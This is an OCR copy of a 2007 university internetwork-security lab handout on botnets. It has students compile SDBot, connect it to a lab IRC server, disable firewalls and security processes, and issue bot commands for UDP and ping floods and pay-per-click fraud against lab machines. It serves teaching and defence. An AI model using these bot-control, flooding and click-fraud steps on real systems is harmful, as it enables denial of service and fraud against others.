Google Adsense Account Disabled by rji14683More Info
                                                                    ECE4112Internetwork Security
                                      Lab 10: Botnets
Group Number: ___
Member Names: ___                  ___

Date Assigned: March 27, 2007
Date Due: April 3, 2007
Last Edited: April 10, 2007

Please read the entire lab and any extra materials carefully before starting. Be sure to start early enough so
that you will have time to complete the lab. Answer ALL questions in the Answer Sheet and be sure you
turn in ALL materials listed in the Turn-in Checklist on or before the Date Due.Goal: The goal of this lab is to introduce you to the concept of Botnets, and showcase some features
of popular bots.

Summary: You will install two different bots, use them to carry out attacks, and analyze the

Background: Read Appendix A: “Bots, Drones, Zombies, Worms and Other Things
That Go Bump in the Night” ( and Appendix B: “Tracking Botnets”

Prelab Questions: None

Lab Scenario: For this lab you will set up an IRC server on your Red Hat 4.0 host
machine and then infect two virtual machines (one Windows one Linux) with bots that will
connect to it. To help with the transfer of files between all of the machines, it may be helpful to
set up Shared folders on the virtual machines. To do so, see Appendix C.

         Some groups report getting errors during the IRC install because in a
           previous lab, they had run a virus that added exploit code to the
           beginning of the headers and they didn't restore the originals. To get
           it back you just need to copy back a good version:

                   cp /usr/include/stdio.h /usr/local/include/If you are having trouble connecting to the IRC server (running on the
           WS 4.0 machine) from the virtual machines, then in a terminal in the WS
           4.0 machine, type the following:

             $ service iptables stop
       to disable the firewall. Also make sure other firewalls are disabled.

               Infected XP
                 machine                              IRC client
                 (Victim)                             (Attacker)

                Infected                              IRCd(Victim)                            Redhat WS4.0

                              Figure 1 - Lab Scenario Network Diagram

Section 1: Setup

1.1 Setting up the IRCd server

IRC networks, while not as popular as many web-based chatrooms, are considered part of the
“underground” Internet, and public IRC servers are home to many hacking groups and illegal
software (warez) release groups, mainly because of the relative anonymity users can have while
connected to IRC. Because of this, botnets are a feasible method of controlling victims without
directly connecting to them. IRC servers are usually part of a network, providing multiple
servers for clients to connect to (if one is closer, or less loaded), which enhances the hard-to-
trace nature of IRC.

For the first section of the lab, we will need to set up an IRC server on our host machine to
simulate a public server where the attacker would control the infected machines.
Copy the file irc2.11.1.tgz from the NAS to your host machine. Perform the following procedure
to set up the IRC daemon on the WS4.0 machine:

# tar –xzvf irc2.11.1.tgz
# cd irc2.11.1
# ./configure
# cd i686-pc-linux-gnu
# make all; make install

Once the IRCd is installed, we need to give it a configuration file. The example configuration
file included with the installation is set up so the server acts as a node in a network. On the NAS
is a pre-configured ircd.conf file, which changes around the configuration of the server so it will
act as a single server. Copy this ircd.conf file to /usr/local/etc/:

# cp ircd.conf /usr/local/etc/

To get the IRC software is up and running, we will need to turn off the firewall so that it won’t
interfere with our incoming and outgoing connections. Open a terminal and type

#service iptables stopTo start the server up, run the following command:

# /usr/local/sbin/ircd –s

The “-s” parameter prevents the ircd process from launching iauth, a daemon which performs ident requests
  for incoming IRC clients. This process takes more time than necessary, since the Redhat and windows
machines don’t answer these requests and they have to time out. We don’t want this for our situation, so we
                                                turn it off.

Once the IRCd server is running, click on the “red hat” icon in the WS4.0 interface. Select
“Internet” and then “IRC.” You can put in whatever nickname you like. Click “Skip server list
on startup” and then connect to a random server. When the X-Chat window pops up, go to
Server Disconnect to cancel connecting to the server. In the bottom text bar, type the

/server <WS4.0 IP> 6668

Once the server logs you in (there may be some time before the MOTD displays), type the
following command to join a channel.

/join #ece4112

Figure 2 - Connected to an IRC channel

You will now be in the newly created #ece4112 channel. Note that IRC channels are similar to
radio channels, if there were an infinite number of frequency bands available. The “chat rooms”
are created by a user joining the same channel as other users. The channel user list is displayed
on the right side of the screen; this is where the bots will appear when they are running properly
on an infected machine.

1.2 Setting up the Virtual Machines

You will be using two of your existing virtual machines: one Windows XP and one RedHat 7.2.
No additional setup is needed.

Section 2: SDBot
The first bot you will work with is SDBot, which is written in C and uses IRC to communicatewith the bot master. It is neither the most powerful bot nor the most popular, but the setup is
straightforward, and the version of the code we have has the self-replicating routines removed, so
it is easier to control.

2.1 Installation and Configuration

Copy the SDBot folder from the NAS to your Windows XP virtualmachine. Because SDBot is
a C program, we have to install a windows C compiler. In the SDBot folder run the file
lccwin32.exe to install the compiler. Click through the install process, leaving all of the default
options in place.

Once LCC is installed, open the sdbot05b.c file in Wordpad and scroll down to the section
labeled “bot configuration.” Make the following changes to the listed variables:

    1.      botid[] = “f00f00” botid[] = “bot1”
    2.      password[] = “bar” password[] = “password”
    3.      server[] = “” server[] = “ircserver”
    4.      port = 6667 port = 6668
    5.      channel[] = “#foobar” channel[] = “#ece4112”
    6.      filename[] = “syscfg32-bot.exe” filename[] = “4112SDbot.exe”

This sets up the bot to connect to the IRC server we set up on the WS 4.0 host machine. Save the
file as 4112bot.c and exit Wordpad.Now, brows to C:\windows\system32\drivers\etc and edit the hosts file in Notepad to include the

<WS 4.0 IP> ircserver

Save the file.

Now run the make-lcc-4112.bat file to create a 4112bot.exeexecutable. This is the executable
that you would need to get onto a victim machine and launch to make it part of your botnet.
How to get the .exe onto a victim machine is beyond the scope of this lab, but recall techniques
learned in previous labs.

Once the SDbot is installed, all firewall software will need to be disabled so that it won’t
interfere with our experiments. Open thetask manager, click the Processes tab, and end the
blackice.exe and blackd.exe processes. This will need to be done after every reboot.

Also ensure that the windows firewall is disabled by navigating to the control panel and clicking
on the Network Connections icon. Then right click the active connection icon, select Properties,
click the Advanced tab, and ensure that the Windows firewall is turned off.2.2 Meet Your Bot
Run the 4112bot.exe executable on the XP virtual machine. Go back onto your host machine and
watch the X-Chat window. Within a few minutes a host with random letters for a username
should log into your channel; this is your bot. Log into your bot by typing:

.login password (bot responds: password accepted)

In the X-Chat window now type:


The bot should respond with some information about the system it isrunning on.

Screenshot #1: Take a screenshot of the X-Chat window showing successful login and
system information printout.

Now type:

.repeat 6 .delay 1 .execute 1 winmine.exe

Q2.1. What is the result of this command?

The file sdbot_commandref.html is a list of commands that you can execute using SDBot. We’ll
take a look at a few of them now.2.3 UDP Flood
We will now use our bot to execute a UDP flood attack against your RedHat 7.2 machine (make
sure to boot it up).

1. Open up ethereal on the host machine and filter the packets with these expressions:
        ((ip.src==<XP ip>) && (ip.dst==< RH7.2 ip>) && udp)
2. Click on the Capture tab and click on Options.
3. Check the "real time" and "automatic scrolling" under display options and start Capture.
4. Use the command reference page to find the command for a UDP flood. Use the command to
send 1000 4096 byte packets to port 23 RedHat 7.2 machine. Use a 1 ms delay.
6. Wait until the bot displays "finished sending packets to < RH7.2 ip>".
7. Stop Ethereal.
8. Click on the Statistics tab on the Ethereal menu bar
9. Click on “Summary”
10. Check the Avg MBit/s traffic DisplayedQ2.2. What command did you use?

Q2.3. What happens if you don’t specify the port number to use for the UDP flood?Q2.4. How many bots would be needed to flood a 1 Gbit link with UDP packets?

Q2.5: How might this attack be prevented from the perspective of the flood target? From
the perspective of the infected victim?

2.4 Ping Flood
Now we’ll use the bot to execute a PING flood attack against the same target.

1. Open up ethereal and filter the packets with these expressions:
        ((ip.src==<XP ip>) && (ip.dst==< RH7.2 ip>) && icmp)
2. Click on the Capture tab and click on Options.
3. Make sure "real time" and "automatic scrolling" under display options is checked and start
4. Use the command reference to find the command for a PING flood. Use 1000 packets of size
4096, sent to the RedHat 7.2 machine. Use a 1 ms delay.
6. Wait until the bot displayed "finished sending packets to < WS4.0 ip>".
7. Stop Ethereal.
8. click on the Statistics tab on the ethereal
9. Click on “Summary”
10. Check the Avg MBit/s traffic Displayed

Q2.6. What command did you use?Q2.7. How many bots would be needed to flood a 1 Gbit link with ICMP packets?

Q2.8. From the result of the two floods, which one is more efficient: UDP or ICMP flood?

Q2.9. Based on your answer to question 2.7, when would you not use the more efficient

2.5 Fraudulent Pay-per-click Count
Another use that botnets have been put to is to generate a fraudulent number of webpage referrals
in pay-per-click advertising schemes. This is how it works: An advertising agency puts up a
“banner” on an individual’s webpage, and pays the individual a nominal amount every time a
visitor to the webpage clicks on the banner (which is a link to the sponsor’s website).Botnets can
be used to generate large numbers of false “clicks” on these banners, thus fraudulently earning
the individual a lot of money. This is how this is accomplished:

1. Open up ethereal and filter the packets with these expressions: ( ((ip.src==<WinXP IP>) &&
(ip.dst== && tcp) || (ip.src== && (ip.dst==< WinXP IP >) && tcp) )
2. Click on the Capture tab and click on Options.
3. Make sure "real time" and "automatic scrolling" under display options is checked and start
4. SDbot command for fraudulent pay-per-click: .visit
6. Wait until the bot displayed “url visited.”
7. Stop Ethereal.
8. Now examine any tcp packet by right-clicking and selecting “Follow TCP stream.”Screenshot #2: Take a screenshot of the tcp stream showing the source and referrer web

2.6 Bot Removal
Open up the Task Manager (Ctrl+Alt+Del) and you should see the bot running under the
conspicuous process name 4112SDBot.exe; if you were trying to hide the bot, you would, of
course, pick a much less obvious name. Use the Task Manager to kill the process and restart
your virtual machine. Once it has rebooted open up Task Manager again. Your bot shouldstill
be running. This is one of the most powerful things about bots; once you infect a computer, it
stays infected (unless the user gets smart and fully deletes it).

1. Use Task Manager to kill the process again.
2. Open thefile “sdbot05a.c”
3. Search for the function “void uninstall (void)” and examine its code
